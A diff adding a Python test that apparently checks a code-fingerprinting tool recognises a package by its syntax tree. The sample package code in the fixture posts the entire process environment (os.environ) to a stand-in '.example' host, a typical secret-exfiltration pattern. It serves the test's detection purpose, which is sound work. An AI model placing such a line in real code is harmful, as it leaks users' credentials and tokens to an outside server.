@@ -180,3 +180,17 @@ def test_a_start_up_file_is_told_by_its_lines(tmp_path: Path) -> None:
 
     assert prints(tmp_path / "same", {"b.pth": "# other\n" + line.format("a")}) == old
     assert not prints(tmp_path / "new", {"a.pth": line.format("b")}) & old
+
+
+def test_an_f_string_that_not_every_python_can_write_is_told_by_its_tree(tmp_path: Path) -> None:
+    code = (
+        "import os, requests\n\ndef send(x):\n"
+        "    requests.post(f'https://{}.example/{{x.strip(\"\t\")}}', json=dict(os.environ))\n"
+        "send('a')\n"
+    )
+
+    old = prints(tmp_path / "old", {"sample/__init__.py": code.format("a")})
+
+    same = "def other(x):\n    return x\n" + code.format("a")
+    assert prints(tmp_path / "same", {"sample/__init__.py": same}) == old
+    assert not prints(tmp_path / "new", {"sample/__init__.py": code.format("b")}) & old
